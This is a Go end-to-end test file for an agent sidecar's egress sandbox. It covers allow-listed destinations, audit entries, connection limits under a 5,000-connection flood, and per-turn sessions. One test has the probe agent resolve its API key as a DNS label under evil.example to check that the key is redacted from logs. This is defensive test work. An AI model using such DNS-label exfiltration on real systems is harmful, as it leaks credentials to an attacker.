package e2e

import (
	"encoding/json"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// stubBody is what the egress tests' loopback server answers.
const stubBody = "egress stub"

var stubHandler = http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte(stubBody)) })

// TestEgress_ExactlyTheListedDestinations is docs/protocol.md §19.1
// through the built binary with the fault agent: with allow
// ["127.0.0.1:P", "model.test:P", "*.test:P"] and --resolve pins, the
// agent reaches the host's server at the listed loopback address, at
// model.test and at a.b.test (by Go's resolver and by curl, which know
// nothing of proxies); other.example and test itself do not resolve;
// another loopback port, another address and UDP fail fast. Every
// allowed connection is one session/network entry with the bytes the
// server saw; the denied ones are audited once each; the totals are in
// session/status and sidecar/stats; the entries are in the journal; a
// bad entry is refused -32602 before anything runs.
func TestEgress_ExactlyTheListedDestinations(t *testing.T) {
	t.Parallel()
	e := newFaultEnv(t)
	port, seen := countingServer(t, stubHandler)
	otherPort, other := countingServer(t, stubHandler)
	p := strconv.Itoa(port)
	s := startSidecar(t, "--state-dir", e.stateDir, "--resolve", "model.test=127.0.0.1", "--resolve", "a.b.test=127.0.0.1")
	init := s.initialize(false)
	caps, _ := json.Marshal(init["capabilities"])
	if !strings.Contains(string(caps), `"networkAllow":true`) {
		t.Fatalf("capabilities.sandbox.networkAllow is not true: %s", caps)
	}

	bad := e.openParams("bad", "probe")
	bad["sandbox"] = allowSandbox("model.test:"+p, "model.test")
	d := wantError(t, "an entry without a port", s.call("session/open", bad), -32602, "")
	if d.Field != "sandbox.network.allow.1" {
		t.Errorf("bad entry: field %q, want sandbox.network.allow.1", d.Field)
	}

	o := e.openProbe(s, "egress", t.TempDir(), allowSandbox("127.0.0.1:"+p, "MODEL.test:"+p, "*.test:"+p))
	var echo struct {
		Allow []string `json:"allow"`
	}
	if err := json.Unmarshal(o.Sandbox.Network, &echo); err != nil || !slices.Equal(echo.Allow, []string{"127.0.0.1:" + p, "model.test:" + p, "*.test:" + p}) {
		t.Errorf("the open result's sandbox.network %s, want the list in canonical form", o.Sandbox.Network)
	}
	lines := []string{
		"http http://127.0.0.1:" + p + "/", "http http://model.test:" + p + "/", "http http://a.b.test:" + p + "/",
		"exec curl -sS -m 10 http://model.test:" + p + "/",
		"resolve other.example", "resolve test", "resolve model.test",
		"tcp 127.0.0.1:" + strconv.Itoa(otherPort), "tcp 1.1.1.1:443", "udp 8.8.8.8:53",
	}
	start := time.Now()
	got := probeTurn(t, s, o.Session, "t1", lines...)
	elapsed := time.Since(start)
	body := strconv.Itoa(len(stubBody))
	wantProbes(t, got, map[string]string{
		lines[0]: "ok 200 " + body, lines[1]: "ok 200 " + body, lines[2]: "ok 200 " + body, lines[3]: "ok " + stubBody,
		lines[4]: "NXDOMAIN", lines[5]: "NXDOMAIN",
		lines[7]: "ECONNREFUSED", lines[8]: "ECONNREFUSED", lines[9]: "EHOSTUNREACH",
	})
	if r := got[lines[6]]; !strings.HasPrefix(r, "ok 198.18.") {
		t.Errorf("model.test resolves inside to %q, want one address of 198.18.0.0/16", r)
	}
	if elapsed > 20*time.Second {
		t.Errorf("the turn took %v: a refusal did not fail fast", elapsed) // a generous bound: each refusal is a reset
	}
	if in, _, _, _ := other.snapshot(); in != 0 {
		t.Error("the unlisted loopback port was reached")
	}

	// The audit: four allowed connections (three http probes, curl) whose
	// bytes are what the server read and wrote, and each refusal once.
	var notes []networkNote
	s.waitFor(10*time.Second, "four allowed session/network entries", func() bool {
		n := 0
		for _, f := range s.notes {
			var nn networkNote
			if f.Method == "session/network" && json.Unmarshal(f.Params, &nn) == nil && nn.Decision == "allowed" {
				n++
			}
		}
		return n >= 4
	})
	notes = networkNotes(s, o.Session)
	var allowed, denied []string
	var out, in int64
	for _, n := range notes {
		if n.SessionKey != "egress" || n.RequestID == nil || *n.RequestID != "t1" {
			t.Errorf("entry %+v: want sessionKey egress, requestId t1", n)
		}
		if n.Decision == "allowed" {
			allowed = append(allowed, n.Destination)
			out, in = out+n.BytesOut, in+n.BytesIn
			continue
		}
		denied = append(denied, n.Destination)
		if n.BytesOut != 0 || n.BytesIn != 0 || n.Reason == "" {
			t.Errorf("denied entry %+v", n)
		}
	}
	slices.Sort(allowed)
	if want := []string{"127.0.0.1:" + p, "a.b.test:" + p, "model.test:" + p, "model.test:" + p}; !slices.Equal(allowed, want) {
		t.Errorf("allowed entries %v, want %v", allowed, want)
	}
	// (A resolver configured with search domains may also ask for
	// other.example.<domain>: those are denied too, and not counted here.)
	for _, want := range []string{"1.1.1.1:443", "other.example", "test", "udp 8.8.8.8:53"} {
		if n := countOf(denied, want); n != 1 {
			t.Errorf("denied entries %v hold %s %d times, want once", denied, want, n)
		}
	}
	srvIn, srvOut, accepted, _ := seen.snapshot()
	if out != srvIn || in != srvOut || accepted != 4 {
		t.Errorf("audit: %d bytes out, %d in; the server read %d, wrote %d over %d connections", out, in, srvIn, srvOut, accepted)
	}
	var st struct {
		Network *networkTotals `json:"network"`
	}
	s.mustCall("session/status", map[string]any{"session": o.Session}, &st)
	if st.Network == nil || st.Network.Allowed != 4 || st.Network.Denied < 4 || st.Network.BytesOut != uint64(out) || st.Network.BytesIn != uint64(in) {
		t.Errorf("session/status network %+v", st.Network)
	}
	var stats struct {
		Network networkTotals `json:"network"`
	}
	s.mustCall("sidecar/stats", map[string]any{}, &stats)
	if stats.Network.Allowed < 4 || stats.Network.BytesIn < uint64(in) {
		t.Errorf("sidecar/stats network %+v", stats.Network)
	}
	var ev struct {
		Events []struct {
			Method string `json:"method"`
		} `json:"events"`
	}
	s.mustCall("session/events", map[string]any{"sessionKey": "egress", "stateDir": e.stateDir}, &ev)
	journaled := 0
	for _, x := range ev.Events {
		if x.Method == "session/network" {
			journaled++
		}
	}
	if journaled != len(notes) {
		t.Errorf("%d session/network entries journaled, %d sent", journaled, len(notes))
	}
	closeClean(t, s, o.Session, e.mark, e.work)
}

// TestEgress_FloodKeepsTheLimitAndTheNeighbour: a tool opening 5,000
// connections at once to a listed destination that holds them gets at
// most limits.connections (100) through — the destination never sees more
// at once — and the rest are reset at once (one denied "connection limit"
// entry for the turn); the sidecar's resident memory stays under 300 MiB
// (docs/architecture.md, "Egress by name", states the measured figure);
// a neighbour session's turn completes while the flood holds; every
// forwarded connection is audited once it ends.
func TestEgress_FloodKeepsTheLimitAndTheNeighbour(t *testing.T) {
	t.Parallel()
	const limit, flood = 100, 5000
	e := newFaultEnv(t)
	port, seen := holdServer(t)
	p := strconv.Itoa(port)
	s := startSidecar(t, "--state-dir", e.stateDir)
	s.initialize(false)
	params := e.openParams("flooder", "probe")
	params["env"] = map[string]string{"ACPX_TEST_MARK": e.mark, "HOME": t.TempDir()}
	params["sandbox"] = allowSandbox("127.0.0.1:" + p)
	params["limits"] = map[string]any{"connections": limit}
	var o sandboxOpen
	s.mustCall("session/open", params, &o)
	neighbour := e.open(s, "neighbour", "")
	base := vmKiB(t, s.cmd.Process.Pid, "VmRSS")

	turn := s.start("session/prompt", map[string]any{"session": o.Session, "requestId": "f1",
		"prompt": "flood 127.0.0.1:" + p + " " + strconv.Itoa(flood) + " 15000"})
	s.waitFor(30*time.Second, "the destination holding the limit's connections", func() bool {
		_, _, accepted, _ := seen.snapshot()
		return accepted >= limit
	})
	runTurn(t, s, neighbour.Session, "n1", "hello while the neighbour floods")
	during := vmKiB(t, s.cmd.Process.Pid, "VmRSS")
	f := s.await(turn, 90*time.Second)
	if f.Error != nil {
		t.Fatalf("flood turn: %d %s", f.Error.Code, f.Error.Message)
	}
	var res string
	for _, u := range updatesOf(s, o.Session) {
		var up struct {
			Content struct {
				Text string `json:"text"`
			} `json:"content"`
		}
		if json.Unmarshal(u.Update, &up) == nil && strings.HasPrefix(up.Content.Text, "probe flood") {
			res = up.Content.Text
		}
	}
	var held, reset, failed, waited int
	if i := strings.Index(res, "=> ok "); i < 0 {
		t.Fatalf("flood probe: %q", res)
	} else {
		for _, kv := range strings.Fields(res[i+len("=> ok "):]) {
			k, v, _ := strings.Cut(kv, "=")
			n, _ := strconv.Atoi(v)
			switch k {
			case "held":
				held = n
			case "reset":
				reset = n
			case "failed":
				failed = n
			case "failed-timeout":
				waited = n
			}
		}
	}
	_, _, accepted, peak := seen.snapshot()
	t.Logf("flood: %s; the destination accepted %d, at most %d at once; sidecar VmRSS %d kB before, %d kB during, VmHWM %d kB",
		res, accepted, peak, base, during, vmKiB(t, s.cmd.Process.Pid, "VmHWM"))
	if held > limit || peak > limit || held == 0 {
		t.Errorf("%d connections held through, the destination saw %d at once; the limit is %d", held, peak, limit)
	}
	if held+reset+failed != flood {
		t.Errorf("held %d + reset %d + failed %d != %d", held, reset, failed, flood)
	}
	if waited != 0 {
		t.Errorf("%d connects timed out: over the limit, each must be reset at once (%s)", waited, res)
	}
	if hwm := vmKiB(t, s.cmd.Process.Pid, "VmHWM"); hwm > 300<<10 {
		t.Errorf("the sidecar's resident memory peaked at %d kB during the flood, over 300 MiB", hwm)
	}
	limited := 0
	s.waitFor(20*time.Second, "the forwarded connections' entries", func() bool {
		n := 0
		for _, f := range s.notes {
			var nn networkNote
			if f.Method == "session/network" && json.Unmarshal(f.Params, &nn) == nil && nn.Session == o.Session && nn.Decision == "allowed" {
				n++
			}
		}
		return int64(n) >= accepted
	})
	for _, n := range networkNotes(s, o.Session) {
		if n.Decision == "denied" {
			if n.Reason != "connection limit" || n.Destination != "127.0.0.1:"+p {
				t.Errorf("denied entry %+v", n)
			}
			limited++
		}
	}
	if limited != 1 {
		t.Errorf("%d connection-limit entries in one turn, want 1 (rate-limited)", limited)
	}
	var st struct {
		Network *networkTotals `json:"network"`
	}
	s.mustCall("session/status", map[string]any{"session": o.Session}, &st)
	if st.Network == nil || st.Network.Allowed != uint64(accepted) || st.Network.Denied == 0 {
		t.Errorf("status network %+v, want %d allowed and the refusals counted", st.Network, accepted)
	}
	closeAllClean(t, s, e, o.Session, neighbour.Session)
}

func countOf(list []string, v string) int {
	n := 0
	for _, x := range list {
		if x == v {
			n++
		}
	}
	return n
}

// TestEgress_PerTurnRevivesJoinTheSameNetwork: a per-turn session with an
// allow list (docs/protocol.md §19.1, §24): the tree of each turn — the
// open's, then a revived one — reaches the listed server and nothing
// else; each connection is audited with its own turn's requestId; the
// totals run on across the retire; and the close's proof ends it all.
func TestEgress_PerTurnRevivesJoinTheSameNetwork(t *testing.T) {
	t.Parallel()
	e := newFaultEnv(t)
	port, seen := countingServer(t, stubHandler)
	p := strconv.Itoa(port)
	s := startSidecar(t, "--state-dir", e.stateDir)
	s.initialize(false)
	params := perTurnParams(e, "pt-egress", agentWritableDir(t), "probe")
	params["sandbox"] = allowSandbox("127.0.0.1:" + p)
	var o sandboxOpen
	s.mustCall("session/open", params, &o)
	body := strconv.Itoa(len(stubBody))
	for i, rid := range []string{"p1", "p2"} {
		got := probeTurn(t, s, o.Session, rid, "http http://127.0.0.1:"+p+"/", "tcp 1.1.1.1:443")
		wantProbes(t, got, map[string]string{"http http://127.0.0.1:" + p + "/": "ok 200 " + body, "tcp 1.1.1.1:443": "ECONNREFUSED"})
		waitParked(t, s, o.Session, i+1)
	}
	s.waitFor(10*time.Second, "an allowed entry of each turn", func() bool {
		turns := map[string]bool{}
		for _, f := range s.notes {
			var nn networkNote
			if f.Method == "session/network" && json.Unmarshal(f.Params, &nn) == nil && nn.Session == o.Session &&
				nn.Decision == "allowed" && nn.RequestID != nil {
				turns[*nn.RequestID] = true
			}
		}
		return turns["p1"] && turns["p2"]
	})
	var allowed, denied int
	for _, n := range networkNotes(s, o.Session) {
		switch {
		case n.RequestID == nil:
			t.Errorf("entry outside a turn: %+v", n)
		case n.Decision == "allowed":
			allowed++
		case n.Destination == "1.1.1.1:443":
			denied++
		}
	}
	if _, _, accepted, _ := seen.snapshot(); allowed != 2 || accepted != 2 || denied != 2 {
		t.Errorf("%d allowed entries (the server accepted %d), %d denied; want 2, 2 and 2 (one per turn)", allowed, accepted, denied)
	}
	var st struct {
		Network *networkTotals `json:"network"`
	}
	s.mustCall("session/status", map[string]any{"session": o.Session}, &st)
	if st.Network == nil || st.Network.Allowed != 2 || st.Network.Denied != 2 {
		t.Errorf("session/status network %+v, want both turns' counts", st.Network)
	}
	closeClean(t, s, o.Session, e.mark, e.work)
}

// TestEgress_SecretAsADNSLabelIsRedactedInAnyCase: an agent that looks up
// its own mixed-case API key as a DNS label (an exfiltration attempt): the
// name arrives lower-cased at the sidecar's DNS, and the session/network
// entry, the journal and the sidecar's log hold neither spelling of the
// key (found by a fresh-user trial: the lower-cased key was audited).
func TestEgress_SecretAsADNSLabelIsRedactedInAnyCase(t *testing.T) {
	t.Parallel()
	e := newFaultEnv(t)
	const secret = "sk-Sec-TOPsecret-" + "4242abcd"
	s := startSidecar(t, "--state-dir", e.stateDir)
	s.initialize(false)
	p := e.openParams("dns-secret", "probe")
	p["env"] = map[string]string{"ACPX_TEST_MARK": e.mark, "HOME": t.TempDir(), "OPENAI_API_KEY": secret}
	p["sandbox"] = allowSandbox("api.model.test:443")
	var o sandboxOpen
	s.mustCall("session/open", p, &o)
	runTurn(t, s, o.Session, "x1", "resolve "+secret+".evil.example")
	s.waitFor(10*time.Second, "the denied lookup's entry", func() bool {
		for _, f := range s.notes {
			if f.Method == "session/network" && strings.Contains(string(f.Params), "evil.example") {
				return true
			}
		}
		return false
	})
	var ev struct {
		Events []json.RawMessage `json:"events"`
	}
	s.mustCall("session/events", map[string]any{"sessionKey": "dns-secret", "stateDir": e.stateDir}, &ev)
	closeClean(t, s, o.Session, e.mark, e.work)
	_, _ = s.shutdownAndExit()
	everything := strings.ToLower(string(s.allOutput()))
	for _, raw := range ev.Events {
		everything += strings.ToLower(string(raw))
	}
	if strings.Contains(everything, strings.ToLower(secret)) {
		t.Errorf("the key (in some letter case) reached the wire, the journal or the log")
	}
	if !strings.Contains(everything, "[redacted].evil.example") {
		t.Errorf("no redacted session/network entry for the lookup")
	}
}
